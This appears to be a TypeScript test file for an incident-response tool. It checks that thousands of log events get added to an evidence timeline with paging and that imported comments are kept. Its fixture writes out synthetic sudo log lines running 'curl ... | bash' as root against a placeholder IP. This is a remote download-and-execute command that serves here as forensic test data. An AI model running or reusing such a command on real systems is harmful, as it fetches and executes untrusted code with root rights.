// What is put on the timeline of one piece of evidence: as much as was chosen, more of it later, and what was left out is said.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Conversation } from '../../src/chat/types.ts';
import { formOf, type Harness, harness, replyText } from '../harness.ts';

let h: Harness;
let where: Conversation;
beforeAll(async () => {
  h = await harness();
  ({ in: where } = await h.open('mira', { title: 'Very many events' }));
});
afterAll(() => h.end());

const upload = (name: string, text: string) => ({ name, bytes: new TextEncoder().encode(text) });
const standing = async () =>
  (await h.services.incidents.load('INC-1')).state.timeline.additions.find((a) => a.evidence === 'EV-1');

describe('a log with more events worth a look than one record holds', () => {
  const EVENTS = 9000;
  const word = (i: number) => [...String(i)].map((d) => 'abcdefghij'[Number(d)]).join('');
  const log = [
    ...Array.from(
      { length: EVENTS },
      (_, i) =>
        `2026-11-19T08:00:00Z web1 sudo: user${word(i)} : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c "curl http://198.51.100.7/${word(i)} | bash"`,
    ),
    '2026-11-19T09:00:00Z web1 app: the nightly report is ready',
    '2026-11-19T09:00:01Z web1 app: a cache of thumbnails was emptied',
  ].join('\n');
  let answer = '';
  beforeAll(async () => {
    await h.type('mira', 'log', { in: where, files: [upload('a.log', log)] });
    await h.settled();
    const form = formOf(await h.press('mira', 'Preview and add', { in: where }));
    answer = replyText(await h.submit('mira', form, { which: 'worth', zone: '' }, { in: where }));
  }, 60_000);

  it('puts every one of them on the timeline, and says how many were left out and how to reach them', async () => {
    const lines = (await standing())?.lines ?? [];
    expect(lines.length).toBeGreaterThan(8000);
    expect(answer).toContain(`${lines.length.toLocaleString('en-US')} events of EV-1 were put on the timeline`);
    expect(answer).toMatch(/events were not chosen\. They stay in EV-1: "log find" searches every line, "Add more"/);
  });

  it('takes more of it later, and nothing twice', async () => {
    const before = (await standing())?.lines?.length ?? 0;
    const more = async (which: string) => {
      const form = formOf(await h.press('mira', 'Add more', { in: where }));
      expect(form.form.fields.map((f) => f.name)).not.toContain('zone');
      const events = form.form.fields.find((f) => f.name === 'events');
      const first = events?.kind === 'choices' ? (events.choices[0]?.value ?? '') : '';
      return { form, first, said: replyText(await h.submit('mira', form, { which, events: [first] }, { in: where })) };
    };
    const { said, form, first } = await more('chosen');
    expect(said).toContain('One event of EV-1 was put on the timeline');
    expect((await standing())?.lines).toHaveLength(before + 1);
    const twice = await h.submit('mira', form, { which: 'chosen', events: [first] }, { in: where });
    expect(twice.kind === 'private' ? replyText(twice) : JSON.stringify(twice)).toContain('nothing was added twice');
    await more('all');
    expect((await standing())?.lines).toBeNull();
    const shown = replyText(await h.type('mira', 'timeline nightly', { in: where }));
    expect(shown).toContain('the nightly report is ready');
  });
});

describe('an imported timeline with more remarks than one record holds', () => {
  it('keeps every one', async () => {
    const { in: other } = await h.open('mira', { title: 'Many remarks' });
    const remark = (n: number) => ({
      author: 'Ana',
      at: '2026-11-19T08:00:00Z',
      text: `${n} ${'so it was. '.repeat(200)}`,
    });
    const rows = [40, 30].map((n, i) =>
      JSON.stringify({
        message: `event ${i}`,
        datetime: '2026-11-19T08:00:00Z',
        comments: Array.from({ length: n }, (_, k) => remark(k)),
      }),
    );
    const reply = await h.type('mira', 'timeline import', { in: other, files: [upload('x.jsonl', rows.join('\n'))] });
    expect(replyText(reply)).toContain('2 with stars, tags or comments');
    const { marks } = (await h.services.incidents.load('INC-2')).state.timeline;
    expect([marks['EV-1:1']?.comments.length, marks['EV-1:2']?.comments.length]).toEqual([40, 30]);
    expect(marks['EV-1:2']?.comments.map((c) => c.text.split(' ')[0]).at(-1)).toBe('29');
  });
});
